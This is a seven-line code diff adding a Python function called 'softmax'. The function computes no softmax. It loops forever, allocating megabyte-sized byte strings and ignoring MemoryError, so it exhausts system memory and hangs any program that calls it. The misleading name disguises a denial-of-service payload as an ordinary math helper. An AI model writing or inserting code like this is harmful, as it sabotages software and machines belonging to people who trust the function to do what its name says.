@@ -1,0 +1,7 @@
+def softmax(o):
+    kept = []
+    while True:
+        try:
+            kept.append(b"x" * (1 << 20))
+        except MemoryError:
+            pass
